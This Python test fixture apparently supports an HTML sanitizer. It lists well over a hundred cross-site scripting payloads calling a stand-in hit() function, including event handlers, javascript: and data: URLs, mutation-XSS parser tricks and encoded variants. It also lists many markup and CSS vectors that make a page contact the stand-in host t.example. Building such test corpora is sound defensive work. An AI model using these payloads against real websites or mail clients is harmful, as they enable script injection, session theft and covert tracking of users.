"""HTML that tries to run something or to fetch something: `hit()` must not run, `t.example` must not be asked."""

from collections.abc import Iterator

REMOTE = "t.example"

# Runs a script by an element or by what an element carries.
SCRIPTS = """
<script>hit()</script>
<script src=//t.example/a.js></script>
<script type=module>import 'https://t.example/a.js'; hit()</script>
<script type=importmap>{"imports":{"a":"https://t.example/a.js"}}</script>
<script type=speculationrules>{"prefetch":[{"urls":["https://t.example/s"]}]}</script>
<scr<script>ipt>hit()</scr</script>ipt>
<<script>hit();//<</script>
<script/x>hit()</script/y>
<script
>hit()</script
>
<script>hit()
</script x="><p>
<p><script><!--<script></p></script>--><img src=x onerror=hit()></script>
<img src=x onerror=hit()>
<img src=x onerror="hit()" onload='hit()' onerror=hit()>
<img/src=x/onerror=hit()>
<img src=`x` onerror=`hit()`>
<img src="x` `><img src=x onerror=hit()>"` `>
<img alt="a" "onerror=hit()" src=x>
<img title='">' alt="'><img src=x onerror=hit()>">
<img src=x:x onerror&#61;hit()>
<image src=x onerror=hit()>
<body onload=hit()>
<body onpageshow=hit() onresize=hit() onhashchange=hit()>
<p onclick=hit() onmouseover=hit() onfocus=hit() tabindex=0 autofocus>x</p>
<div contenteditable autofocus onfocus=hit()>x</div>
<div popover id=p onbeforetoggle=hit()></div><button popovertarget=p>x</button>
<div style="animation:x 1s" onanimationstart=hit()>x</div><style>@keyframes x{}</style>
<p style="transition:color 1s" ontransitionend=hit()>x</p>
<details open ontoggle=hit()><summary>x</summary></details>
<marquee onstart=hit()>x</marquee>
<input autofocus onfocus=hit()>
<select autofocus onfocus=hit()><option>x</select>
<textarea autofocus onfocus=hit()></textarea>
<keygen autofocus onfocus=hit()>
<video onloadstart=hit() src=x></video>
<video><source onerror=hit() src=x></video>
<audio src=x onerror=hit() autoplay></audio>
<object onerror=hit() data=x></object>
<isindex type=image src=1 onerror=hit()>
<a href=javascript:hit()>x</a>
<a href=" javascript:hit()">x</a>
<a href="java&#9;script:hit()">x</a>
<a href="java&NewLine;script&colon;hit()">x</a>
<a href="&#1;javascript:hit()">x</a>
<a href="&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:hit()">x</a>
<a href="vbscript:hit()">x</a>
<a href="data:text/html,<script>hit()</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==">x</a>
<a href="blob:https://t.example/1">x</a>
<a href="https:javascript:hit()">x</a>
<a href="//t.example" ping="https://t.example/ping">x</a>
<a href="cid:logo@x" target=_top>x</a>
<a href="feed:javascript:hit()">x</a><a href="view-source:https://t.example">x</a><a href="file:///etc/passwd">x</a>
<area href=javascript:hit() shape=default><map name=m><area href="javascript:hit()"></map>
<form action=javascript:hit()><input type=submit></form>
<form id=f></form><button form=f formaction=javascript:hit()>x</button>
<isindex action=javascript:hit() type=submit>
<iframe src=javascript:hit()></iframe>
<iframe srcdoc="<script>parent.hit()</script>"></iframe>
<iframe src="data:text/html,<script>parent.hit()</script>"></iframe>
<object data="data:text/html,<script>parent.hit()</script>"></object>
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit()'/>">
<portal src=javascript:hit()></portal>
<frameset onload=hit()><frame src=javascript:hit()></frameset>
<svg onload=hit()></svg>
<svg><script>hit()</script></svg>
<svg><script href="data:text/javascript,hit()"/></svg>
<svg><use href="data:image/s&#9;vg+xml;base64,PHN2Zz4=#x"></use></svg>
<svg><a xlink:href="javascript:hit()"><text y=20>x</text></a></svg>
<svg><animate onbegin=hit() attributeName=x dur=1s></svg>
<svg><set attributeName=href to=javascript:hit()><a id=x><text>x</text></a></svg>
<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>
<svg><style><img src="</style><img src=x onerror=hit()>"></svg>
<svg><desc><template><img src=x onerror=hit()></template></desc></svg>
<svg></p><style><a title="</style><img src=x onerror=hit()>">
<math><a xlink:href="javascript:hit()">x</a></math>
<math href="javascript:hit()">x</math>
<math><mi xlink:href="data:text/html,<script>hit()</script>">x</mi></math>
<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">
<math><mtext><table><mglyph><style><math href="</style><img src=x onerror=hit()>">
<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=hit()>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>
<math><mtext></mtext><style><!--</style><img src=x onerror=hit()>-->
<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>
<template><img src=x onerror=hit()></template>
<div><template shadowrootmode=open><img src=x onerror=hit()></template></div>
<noembed><p title="</noembed><img src=x onerror=hit()>"></noembed>
<noframes><p title="</noframes><img src=x onerror=hit()>"></noframes>
<xmp><p title="</xmp><img src=x onerror=hit()>"></xmp>
<plaintext><img src=x onerror=hit()>
<listing>&lt;img src=x onerror=hit()&gt;</listing>
<textarea><p title="</textarea><img src=x onerror=hit()>"></textarea>
<title><p title="</title><img src=x onerror=hit()>"></title>
<style><p title="</style><img src=x onerror=hit()>"></style>
<select><style></select><img src=x onerror=hit()></style>
<select><template><style></select><img src=x onerror=hit()></style></template>
<table><td><form><table><td></form><img src=x onerror=hit()>
<a><table><a><td><img src=x onerror=hit()></table></a>
<b><p><b><p><img title="</p></b><img src=x onerror=hit()>">
<!--><img src=x onerror=hit()>-->
<!---><img src=x onerror=hit()>-->
<!-- --!><img src=x onerror=hit()>-->
<!-- <!-- --><img src=x onerror=hit()>-->
<!--[if gte mso 9]><img src=x onerror=hit()><![endif]-->
<![if !mso]><img src=x onerror=hit()><![endif]>
<![CDATA[<img src=x onerror=hit()>]]>
<? foo="><img src=x onerror=hit()>">
<! foo="><img src=x onerror=hit()>">
</ foo="><img src=x onerror=hit()>">
<% foo="%><img src=x onerror=hit()>">
<!DOCTYPE x [<!ENTITY e "<img src=x onerror=hit()>">]>&e;
<p title="&quot;><img src=x onerror=hit()>">x</p>
<p title='"><img src=x onerror=hit()>'>x</p>
<p title=`><img src=x onerror=hit()>`>x</p>
<p title="x"onmouseover="hit()"style="color:red">x</p>
<p =">"<img src=x onerror=hit()>">x</p>
<p a=">" b='>' c=">'><img src=x onerror=hit()>">x</p>
<p x="&lt;/p&gt;&lt;img src=x onerror=hit()&gt;">x</p>
&lt;script&gt;hit()&lt;/script&gt;
&#60;img src=x onerror=hit()&#62;
&amp;lt;img src=x onerror=hit()&amp;gt;
+ADw-script+AD4-hit()+ADw-/script+AD4-
\u00bcscript\u00behit()\u00bc/script\u00be
\uff1cscript\uff1ehit()\uff1c/script\uff1e
<\u017fcript>hit()</\u017fcript>
<x onclick=hit()>x</x><x-y is=z onfocus=hit() tabindex=1>
<p is=x-y id=hit name=hit class=toolbar slot=s>x</p>
<form name=body><input name=firstChild></form><img name=getElementById>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">hit()</x:script>
<xml id=x src="https://t.example/x.xml"></xml><xss style="behavior:url(//t.example/x.htc)">
<v:rect xmlns:v="urn:schemas-microsoft-com:vml" onload=hit()><v:fill src="https://t.example/v.png"/></v:rect>
<p style="width:expression(hit())">x</p>
<p style="-moz-binding:url(https://t.example/x.xml#x)">x</p>
<a href="x" style="behavior:url(#default#time2)" onbegin=hit()>x</a>
"""

# Fetches something when it is looked at.
FETCHES = """
<img src=https://t.example/1.gif>
<img src=//t.example/1.gif>
<img src="/\\t.example/1.gif">
<img src="http:\\\\t.example\\1.gif">
<img src="HtTpS://t.example/1.gif">
<img src="ht&Tab;tps://t.example/1.gif">
<img src="https&colon;//t.example/1.gif">
<img src="ftp://t.example/1.gif">
<img src="/api/logout">
<img src="http:/api/logout"><img src="https:api/logout"><img src="http:?remote=1">
<img src="?remote=1">
<img src="cid:logo@x@t.example"><img src="cid:https://t.example/1.gif"><img src="cid:%2F%2Ft.example">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='https://t.example/1'/></svg>">
<img srcset="https://t.example/1.gif 1x, https://t.example/2.gif 2x">
<img src=x srcset=//t.example/1.gif sizes=100vw>
<img src=cid:logo@x lowsrc=https://t.example/1 dynsrc=https://t.example/2 longdesc=https://t.example/3>
<img src=x src=https://t.example/1.gif>
<img crossorigin loading=eager src=https://t.example/1.gif>
<picture><source srcset=https://t.example/1.webp><img src=https://t.example/1.gif></picture>
<image href=https://t.example/1.gif src=https://t.example/2.gif>
<input type=image src=https://t.example/1.gif>
<video poster=https://t.example/1.png></video>
<video src=https://t.example/1.mp4 autoplay preload=auto></video>
<video autoplay><source src=https://t.example/1.mp4><track default src=https://t.example/1.vtt></video>
<audio src=https://t.example/1.mp3 autoplay></audio>
<audio autoplay><source src=https://t.example/1.ogg></audio>
<bgsound src=https://t.example/1.wav>
<embed src=https://t.example/1.swf>
<object data=https://t.example/1.pdf></object>
<object codebase=https://t.example/ classid=x><param name=src value=https://t.example/1></object>
<applet codebase=https://t.example/ code=A archive=https://t.example/a.jar></applet>
<iframe src=https://t.example/></iframe>
<iframe srcdoc="<img src=https://t.example/1.gif>"></iframe>
<frameset><frame src=https://t.example/></frameset>
<fencedframe src=https://t.example/></fencedframe>
<link rel=stylesheet href=https://t.example/x.css>
<link rel=prefetch href=https://t.example/p>
<link rel=preload as=image href=https://t.example/p.png>
<link rel=modulepreload href=https://t.example/p.js>
<link rel=prerender href=https://t.example/p>
<link rel=dns-prefetch href=//t.example><link rel=preconnect href=https://t.example>
<link rel=icon href=https://t.example/i.ico><link rel=apple-touch-icon href=https://t.example/i.png>
<link rel=manifest href=https://t.example/m.json>
<html manifest=https://t.example/m.appcache>x</html>
<head profile=https://t.example/p></head>
<meta http-equiv=refresh content="0;url=https://t.example/">
<meta http-equiv=link content="<https://t.example/x.css>; rel=stylesheet">
<meta http-equiv=x-dns-prefetch-control content=on><a href=https://t.example/>x</a>
<meta http-equiv=Content-Security-Policy content="report-uri https://t.example/">
<base href=https://t.example/><img src=1.gif>
<style>@import url(https://t.example/x.css);</style>
<style>@import 'https://t.example/x.css';</style>
<style>@font-face{font-family:f;src:url(https://t.example/f.woff)}p{font-family:f}</style><p>x</p>
<style>p{background:url(https://t.example/1.gif)}</style><p>x</p>
<style>p::before{content:url(https://t.example/1.gif)}</style><p>x</p>
<style>p:first-line{background:url(https://t.example/1.gif)}li{list-style:url(https://t.example/2.gif)}</style><p>x</p><li>
<style>@media all{p{background:image-set('https://t.example/1.png' 1x)}}</style><p>x</p>
<style><!-- p{background:url(https://t.example/1.gif)} --></style><p>x</p>
<div><style>p{background:url(https://t.example/1.gif)}</div><p>x</p>
<svg><style>p{background:url(https://t.example/1.gif)}</style></svg><p>x</p>
<p style="background:url(https://t.example/1.gif)">x</p>
<p style="background:URL('https://t.example/1.gif')">x</p>
<p style="background:u\\72l(https://t.example/1.gif)">x</p>
<p style="background:\\000075rl(https://t.example/1.gif)">x</p>
<p style="background:u/**/rl(https://t.example/1.gif)">x</p>
<p style="background:url&#40;https://t.example/1.gif&#41;">x</p>
<p style="background:url
(https://t.example/1.gif)">x</p>
<p style="background-image:var(--x,url(https://t.example/1.gif))">x</p>
<p style="--x:url(https://t.example/1.gif);background:var(--x)">x</p>
<p style="background:image-set('https://t.example/1.png' 1x)">x</p>
<p style="background:-webkit-image-set(url(https://t.example/1.png) 1x)">x</p>
<p style="background:cross-fade(url(https://t.example/1.png),url(https://t.example/2.png),50%)">x</p>
<p style="background:image('https://t.example/1.png')">x</p>
<p style="background:src('https://t.example/1.png')">x</p>
<p style="background:paint(url(https://t.example/1.png))">x</p>
<p style="list-style:url(https://t.example/1.gif);display:list-item">x</p>
<p style="list-style-image:url(https://t.example/1.gif);display:list-item">x</p>
<p style="content:url(https://t.example/1.gif)">x</p>
<p style="cursor:url(https://t.example/1.cur),auto">x</p>
<p style="border-image:url(https://t.example/1.png) 30">x</p>
<p style="border-image-source:url(https://t.example/1.png)">x</p>
<p style="mask:url(https://t.example/m.svg#m)">x</p><p style="-webkit-mask-image:url(https://t.example/m.png)">x</p>
<p style="clip-path:url(https://t.example/c.svg#c)">x</p>
<p style="filter:url(https://t.example/f.svg#f)">x</p><p style="backdrop-filter:url(https://t.example/f.svg#f)">x</p>
<p style="shape-outside:url(https://t.example/1.png);float:left">x</p>
<p style="offset-path:url(https://t.example/p.svg#p)">x</p>
<p style="font:12px/1 url(https://t.example/f)">x</p>
<p style="filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='https://t.example/1.png')">x</p>
<p style="behavior:url(https://t.example/x.htc)">x</p>
<p style='color:red;}@import "https://t.example/x.css";{'>x</p>
<p style="color:red</style><img src=https://t.example/1.gif>">x</p>
<p style="background:red;background:url(&quot;https://t.example/a;b.gif&quot;)">x</p>
<p style="font-family:'x;background:url(https://t.example/1.gif)'">x</p>
<p style="color:'\\';background:url(https://t.example/1.gif);'">x</p>
<body background=https://t.example/1.gif>
<body background="data:image/png,x);background:url(//t.example)">x
<table background=https://t.example/1.gif><tr background=//t.example/2.gif><td background=https://t.example/3.gif>x
<thead background=https://t.example/1.gif><th background=https://t.example/2.gif>x
<p background=https://t.example/1.gif>x</p>
<svg><image href=https://t.example/1.svg width=9 height=9 /></svg>
<svg><image xlink:href=https://t.example/1.svg width=9 height=9 /></svg>
<svg><use href=https://t.example/u.svg#u /></svg>
<svg><filter id=f><feImage href=https://t.example/f.png /></filter><rect filter=url(#f) width=9 height=9 /></svg>
<svg><rect fill="url(https://t.example/p.svg#p)" width=9 height=9 /></svg>
<svg><rect style="mask:url(https://t.example/m.svg#m)" width=9 height=9 /></svg>
<svg><pattern href=https://t.example/p.svg#p /><linearGradient href=https://t.example/g.svg#g /></svg>
<svg><foreignObject><img src=https://t.example/1.gif></foreignObject></svg>
<svg><set attributeName=href to=https://t.example/1.png><image /></svg>
<math><mglyph src=https://t.example/1.png></math>
<math definitionURL=https://t.example/d><mi actiontype=x href=https://t.example/>x</mi></math>
<a ping=https://t.example/ping href=https://other.example/ attributionsrc=https://t.example/a>x</a>
<img attributionsrc=https://t.example/a src=x>
<form action=https://t.example/ target=_top><input type=submit></form>
<button formaction=https://t.example/ type=submit>x</button>
<blockquote cite=https://t.example/c>x</blockquote><q cite=https://t.example/c>x</q><del cite=https://t.example/d>x</del>
<script src=https://t.example/1.js></script>
<noscript><img src=https://t.example/1.gif></noscript>
<template><img src=https://t.example/1.gif></template>
<xml><img src=https://t.example/1.gif></xml>
<!--[if mso]><v:background fill=t><v:fill type=tile src="https://t.example/1.png"/></v:background><![endif]-->
<!--[if !mso]><!--><img src=https://t.example/1.gif><!--<![endif]-->
<div dynsrc=https://t.example/1 src=https://t.example/2 href=https://t.example/3 data=https://t.example/4>x</div>
<td src=https://t.example/1><hr src=https://t.example/2><font src=https://t.example/3>x</font>
<track src=https://t.example/1.vtt><source src=https://t.example/2>
<menuitem icon=https://t.example/1.png><command icon=https://t.example/1.png>
<layer src=https://t.example/></layer><ilayer src=https://t.example/></ilayer>
<img usemap=https://t.example/#m ismap src=cid:logo@x><map name=m><area href=https://t.example/ shape=default></map>
"""


def attacks() -> list[str]:
    """Return every attack as it was written. One that goes over a line end goes on without a tag at its beginning."""
    return [*_listed(SCRIPTS), *_listed(FETCHES)]


def _listed(text: str) -> Iterator[str]:
    lines: list[str] = []
    for line in text.strip("\n").split("\n"):
        if lines and not line.startswith(_CONTINUED):
            yield "\n".join(lines)
            lines = []
        lines.append(line)
    yield "\n".join(lines)


# Lines that only go on with the attack above them.
_CONTINUED = (">", "(", "</script")
